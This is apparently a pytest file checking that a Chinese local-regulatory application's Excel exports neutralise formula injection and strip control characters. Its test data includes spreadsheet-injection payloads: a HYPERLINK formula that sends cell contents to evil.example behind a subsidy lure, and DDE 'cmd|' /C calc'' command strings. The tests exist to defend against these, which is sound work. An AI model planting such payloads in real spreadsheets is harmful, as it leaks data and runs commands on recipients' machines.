"""Formula injection and control characters in every workbook the application writes (issue
17): text starting with ``=``, ``+``, ``-``, ``@`` comes back as the same text in a text cell,
never a formula; control characters are dropped when stored (any entry point) and an export
survives the ones already stored."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from station_app.domain.auth import ADMIN, Actor
from station_app.domain.periods import parse_period
from station_app.domain.report_model import Figure, Section
from station_app.domain.text import normalize_name
from station_app.services.entities import EntityData

EVIL = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
)
CONTROLS = "\x01\x08\x0b\x1b\x1f\x7f"


def formulas(data: bytes | Path) -> list[str]:
    """Every formula cell of a workbook (none is written on purpose), and check no control
    character got into any cell."""
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value}")
                if isinstance(cell.value, str):
                    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value)
    return found


def texts(data: bytes | Path) -> set[str]:
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return {
        c.value
        for ws in wb.worksheets
        for r in ws.iter_rows()
        for c in r
        if isinstance(c.value, str)
    }


def test_entity_export_writes_formula_text_as_text(ctx, tmp_path):
    svc = ctx.services.entities
    for i, name in enumerate(EVIL):
        svc.save(EntityData(name=f"{name}{CONTROLS}", address=f"=A{i}{CONTROLS}路{i}号"))
    stored = {svc.get(i).data.name for i in svc.rows().fetch_ids("name", False).tolist()}
    names = {normalize_name(e) for e in EVIL}  # （） and ＝ are normalised as for any name
    assert stored == names  # the form's text without its control characters
    out = tmp_path / "台账.xlsx"
    svc.export(out)
    assert formulas(out) == []
    assert names <= texts(out)


def test_export_survives_control_characters_already_stored(ctx, tmp_path):
    from sqlalchemy import text

    svc = ctx.services.entities
    card, _ = svc.save(EntityData(name="城关镇张三记餐馆", address="人民路12号"))
    with ctx.db.uow() as s:  # a value stored before cleaning existed
        s.execute(
            text("UPDATE entity SET name = :n WHERE id = :i"),
            {"n": "城关镇\x01张三\x1b记餐馆", "i": card.data.id},
        )
    out = tmp_path / "台账.xlsx"
    assert svc.export(out) == 1
    assert "城关镇张三记餐馆" in texts(out)


def test_import_error_report_writes_the_rows_as_text(ctx, tmp_path):
    src = tmp_path / "台账.csv"
    lines = ["名称,统一社会信用代码,经营地址"]
    lines += [f'"{e.replace(chr(34), chr(34) * 2)}",bad{i},=1+{i}' for i, e in enumerate(EVIL)]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result, _ = ctx.services.entity_import.run(src, dry_run=True)
    assert len(result.rejected) == len(EVIL)
    out = ctx.services.entity_import.write_error_report(result, tmp_path / "错误报告.xlsx")
    assert formulas(out) == []
    assert set(EVIL) <= texts(out)


def test_complaint_export_writes_formula_text_as_text(tmp_path):
    from station_app.exports.complaints_xlsx import write_complaints

    rows = [{"number": e, "respondent": e + CONTROLS, "complainant": "张*"} for e in EVIL]
    out = write_complaints(tmp_path / "投诉.xlsx", rows)
    assert formulas(out) == []
    assert set(EVIL) <= texts(out)


def test_roster_exports_write_formula_text_as_text(tmp_path):
    from station_app.exports.roster_xlsx import write_roster_xlsx

    rows = [{"name": e + CONTROLS, "phone": e, "grid": e} for e in EVIL]
    out = write_roster_xlsx(
        tmp_path / "花名册.xlsx",
        rows,
        summaries=[(e, 1) for e in EVIL],
        trainings=[(e, e) for e in EVIL],
        station="=城关所",
        printed_on=date(2026, 11, 2),
        masked=True,
    )
    assert formulas(out) == []
    assert set(EVIL) <= texts(out)


def test_list_notice_workbook_writes_formula_text_as_text():
    from station_app.documents.list_notice import build_notice_xlsx

    row = {"no": 1, "summary": EVIL[1], "listed_on": "2026-10-01", "until": "2027-10-01"}
    payload = {
        "title": EVIL[0],
        "intro": EVIL[2] + CONTROLS,
        "period_label": "2026年10月",
        "period_start": "2026-10-01",
        "period_end": "2026-10-31",
        "sections": [
            {
                "kind": "失信名单",
                "colour": "black",
                "rows": [dict(row, name=e, uscc=e) for e in EVIL],
            }
        ],
        "closing": [EVIL[3]],
        "issuer": "=城关所",
        "date_text": "2026年11月2日",
    }
    data = build_notice_xlsx(payload)
    assert formulas(data) == []
    assert set(EVIL) <= texts(data)


@pytest.fixture
def evil_stations(tmp_path):
    from station_app.bootstrap import open_context
    from station_app.data.engine import sqlite_url
    from station_app.services.reports import ReportService
    from station_app.services.station import StationProfileData

    def provider(db, period):
        return Section(
            EVIL[4],
            [Figure("c.received", EVIL[0], 5, headline=True), Figure("c.x", EVIL[1], 2)],
        )

    made = []
    for code, name in (("S01", EVIL[0]), ("S02", EVIL[3])):
        ctx = open_context(
            sqlite_url(tmp_path / f"{code}.sqlite3"), actor=Actor(None, "t", ADMIN), create=True
        )
        ctx.services.station.save_profile(
            StationProfileData(name=name, code=code, county_bureau="=东平县市场监督管理局")
        )
        svc = ReportService(ctx.db, ctx.auth, [provider])
        made.append(svc.write_package(parse_period("2026-10"), tmp_path / code).path)
        ctx.close()
    return made


def test_report_workbook_and_county_merge_write_formula_text_as_text(evil_stations, tmp_path):
    from station_app.exports.county_merge import merge_packages

    for package in evil_stations:
        with zipfile.ZipFile(package) as zf:
            workbook = zf.read("report.xlsx")
        assert formulas(workbook) == []
        assert {EVIL[0], EVIL[1]} <= texts(workbook)
    result = merge_packages(evil_stations, tmp_path / "county.xlsx")
    assert formulas(result.path) == []
    assert {EVIL[0], EVIL[3]} <= texts(result.path)
